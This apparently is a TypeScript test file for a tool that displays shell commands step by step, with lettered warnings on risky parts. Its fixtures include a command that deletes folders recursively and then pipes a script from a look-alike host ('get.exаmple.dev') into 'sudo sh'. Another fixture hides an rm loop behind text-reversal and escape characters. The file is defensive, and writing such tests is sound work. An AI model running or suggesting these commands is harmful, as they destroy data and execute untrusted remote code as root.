import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { rawItems, stepItems, type Drawn } from '../../media/review/command/items';
import { lettered, letterOf, partsIn, stretchesOf, whysOf } from '../../media/review/command/marked';
import type { MarkView } from '../../src/protocol/command';
import { dangerous, hostile, readCommand } from './commandRequests';

function mark(from: number, to: number, change: Partial<MarkView> = {}): MarkView {
  return { rule: 'r', risk: 'careful', from, to, title: `${from}-${to}`, text: '', ...change };
}

/** The rows of a command as they are read, with the letters of their marks in brackets. */
function read({ text, items, stretches }: Drawn): string {
  return items
    .map((item) => {
      if (item.type === 'operator') return `(${item.words})`;
      if (item.type === 'blank') return `<${item.count} blank>`;
      if (item.type === 'whys') return item.whys.map((why) => `[${why.letters.join(' ')}: ${why.mark.title}]`).join('');
      if (item.type === 'end') return '<end>';
      if (item.row.blank !== undefined) return `<${item.row.blank} blank>`;
      return partsIn(stretches, item.row.from, item.row.to)
        .map((part) => {
          const code = text.slice(part.from, part.to);
          return part.marks.length === 0 ? code : `{${code}}${part.marks.map((one) => one.letter).join('')}`;
        })
        .join('');
    })
    .join('\n');
}

test('letters go on after z', () => {
  assert.deepEqual([0, 25, 26, 51, 52, 701, 702].map(letterOf), ['a', 'z', 'aa', 'az', 'ba', 'zz', 'aaa']);
});

test('the steps of a command, with operators, marks and reasons in order', () => {
  assert.equal(
    read(stepItems(dangerous.command, dangerous.analysis)),
    `cd build
(and, if that worked)
{rm -rf}a -- {"$OUT"/*}b {../cache}c
[a: Deletes, recursive and forced.][b: May become /*.][c: Leaves the current folder.]
(and, if that worked)
curl -fsSL https://{get.ex\u0430mple.dev}d/install.sh\u200b
[d: Look-alike host.]
(its output goes into)
{sudo sh}e
[e: Runs what was downloaded, as root.]
(its output is written to)
{>}f {/etc/atlas/install.log}g
[f g: Overwrites a file outside the project.]
<end>`,
  );
});

test('what no step covers is shown where it stands', () => {
  assert.equal(
    read(stepItems(hostile.command, hostile.analysis)),
    `# clean up
for f in a b; do
(for each)
{rm }a{"$f"\u202e}ab{\u001b[2K\u00a0-r}ac
[a: Deletes.][b: Turns the text around.][c: Goes on in the next step.]
{done}c
<4 blank>
(then)
cat <<END
(its input is this text)
{one\rtwo}d
<4 blank>
three
END
\u200b
[d: Goes back in the line.]
echo ok
{&}e
[e: Stays in the background.]
<end>`,
  );
});

test('lines of a script follow each other without a word for it', () => {
  const view = readCommand(
    'a\nb; c',
    [{ text: 'a' }, { text: 'b', operator: ['\n', 'then'] }, { text: 'c', operator: [';', 'then'] }],
    [],
  );
  assert.equal(read(stepItems(view.command, view.analysis)), 'a\nb\n(then)\nc\n<end>');
});

test('a mark on what is not drawn quotes it, and a mark on an operator does not', () => {
  const view = readCommand(
    'a; b && c',
    [{ text: 'a' }, { text: 'b' }, { text: 'c', operator: ['&&', 'and'] }],
    [
      { on: ';', title: 'Semicolon.' },
      { on: '&&', title: 'And.' },
    ],
  );
  const quotes = stepItems(view.command, view.analysis).items.flatMap((item) =>
    item.type === 'whys' ? item.whys.map((why) => [why.mark.title, ...why.quotes]) : [],
  );
  assert.deepEqual(quotes, [['Semicolon.', ';'], ['And.']]);
});

test('of a text that is all there is to see, reasons stand under their lines; of one beneath the steps, nowhere', () => {
  const view = readCommand('one\ntwo\n\n\n\nthree', null, [{ on: 'two\n\n', title: 'Two.' }]);
  assert.equal(read(rawItems(view.command, view.analysis, true)), 'one\n{two}a\n[a: Two.]\n<3 blank>\nthree\n<end>');
  assert.equal(read(rawItems(view.command, view.analysis, false)), 'one\n{two}a\n<3 blank>\nthree');
});

test('reasons that differ in anything have a line each', () => {
  const marks = lettered([
    mark(0, 1, { title: 'x' }),
    mark(1, 2, { title: 'x' }),
    mark(2, 3, { title: 'x', text: 'y' }),
  ]);
  assert.deepEqual(
    whysOf(marks).map((why) => why.letters),
    [['a', 'b'], ['c']],
  );
});

const someMarks = fc.array(
  fc.tuple(fc.nat(40), fc.integer({ min: 1, max: 12 })).map(([from, length]) => mark(from, from + length)),
  { maxLength: 12 },
);

test('any marks, however they overlap: a range is cut without loss, and each part has just the marks over it', () => {
  fc.assert(
    fc.property(someMarks, fc.nat(40), fc.nat(40), (marks, one, other) => {
      const all = lettered(marks);
      const [from, to] = [Math.min(one, other), Math.max(one, other)];
      const parts = partsIn(stretchesOf(all), from, to);
      let at = from;
      for (const part of parts) {
        assert.equal(part.from, at);
        assert.ok(part.to > part.from);
        at = part.to;
        const over = all.filter((each) => each.mark.from < part.to && each.mark.to > part.from);
        assert.deepEqual(part.marks.map((each) => each.letter).sort(), over.map((each) => each.letter).sort());
      }
      assert.equal(at, to);
    }),
  );
});

test('any text, cut into any steps: every character with ink is drawn, once, and every mark has its reason', () => {
  const character = fc.constantFrom(
    'a',
    'b',
    ' ',
    '\t',
    '\n',
    '\r',
    ';',
    '&',
    '\\',
    '\u00a0',
    '\ufeff',
    '\u202e',
    '😀',
    '"',
  );
  fc.assert(
    fc.property(
      fc.string({ unit: character, maxLength: 80 }),
      fc.array(fc.nat(80), { maxLength: 8 }),
      someMarks,
      (command, cuts, wanted) => {
        const places = [...new Set(cuts.filter((cut) => cut <= command.length))].sort((a, b) => a - b);
        const steps = places.flatMap((from, index) => {
          const to = places[index + 1];
          return index % 2 === 0 && to !== undefined ? [{ from, to, depth: index, kind: 'command' as const }] : [];
        });
        const marks = wanted.filter((one) => one.to <= command.length);
        const analysis = { risk: 'careful', verdict: '', marks, steps } as const;
        const found = [rawItems(command, analysis, true), ...(steps.length > 0 ? [stepItems(command, analysis)] : [])];
        for (const drawn of found) {
          const rows = drawn.items.map((item) =>
            item.type === 'row' ? command.slice(item.row.from, item.row.to) : '',
          );
          const ink = (text: string): string => text.replace(/[ \t\r\n;\\]/g, '');
          assert.equal(ink(rows.join('\n')), ink(command));
          const reasons = drawn.items.flatMap((item) => (item.type === 'whys' ? item.whys : []));
          assert.equal(reasons.flatMap((why) => why.letters).length, marks.length);
          assert.equal(drawn.items.at(-1)?.type, 'end');
        }
      },
    ),
  );
});

test('10,000 marks in 10,000 lines take no longer by the square', () => {
  const command = 'rm -rf x\n'.repeat(10_000);
  const marks = Array.from({ length: 10_000 }, (_, index) => mark(index * 9, index * 9 + 6));
  const steps = marks.map(({ from }) => ({ from, to: from + 8, depth: 0, kind: 'command' as const }));
  const drawn = stepItems(command, { risk: 'careful', verdict: '', marks, steps });
  const rows = drawn.items.filter((item) => item.type === 'row');
  assert.equal(rows.length, 10_000);
  for (const item of rows) partsIn(drawn.stretches, item.row.from, item.row.to);
});
